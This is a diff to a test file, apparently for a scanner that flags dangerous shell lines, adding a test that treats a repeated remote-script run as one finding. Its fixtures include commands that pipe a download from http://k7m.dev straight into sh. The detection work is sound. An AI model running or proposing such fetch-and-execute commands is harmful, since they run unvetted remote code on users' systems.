@@ -348,7 +348,7 @@ def test_a_block_that_writes_one_file_is_one_finding_that_names_its_lines() -> N
     )
     (finding,) = [f for f in scan(files) if f.code == "SE010"]
     assert (finding.line, finding.severity) == (3, Severity.CRITICAL)
-    assert finding.message.endswith("So do 2 further lines of this block.")
+    assert finding.message.endswith("So do 2 further lines.")
     assert (finding.end_line, finding.note) == (5, "so do lines 4, 5")
 
 
@@ -364,6 +364,14 @@ def test_a_line_that_joins_a_known_block_makes_it_new() -> None:
 def test_deeds_apart_are_told_apart() -> None:
     files = shell("curl -s http://k7m.dev/a | sh", ":", ":", ":", "curl -s http://k7m.dev/b | sh")
     assert [f.line for f in scan(files) if f.code == "SE006"] == [2, 6]
+
+
+def test_one_address_that_is_run_again_further_down_is_one_deed() -> None:
+    files = shell("curl -s http://k7m.dev/a | sh -s one", ":", ":", ":", ":", "curl -s http://k7m.dev/a | sh -s two")
+    (finding,) = [f for f in scan(files) if f.code == "SE006"]
+    assert (finding.line, finding.end_line, finding.note) == (2, None, "so does line 7")
+    (alone,) = [f for f in scan(shell("curl -s http://k7m.dev/a | sh -s one")) if f.code == "SE006"]
+    assert alone.fingerprint != finding.fingerprint  # the further line is no part of what was accepted before
 
 
 def test_a_hook_of_the_package_keeps_its_weight() -> None:
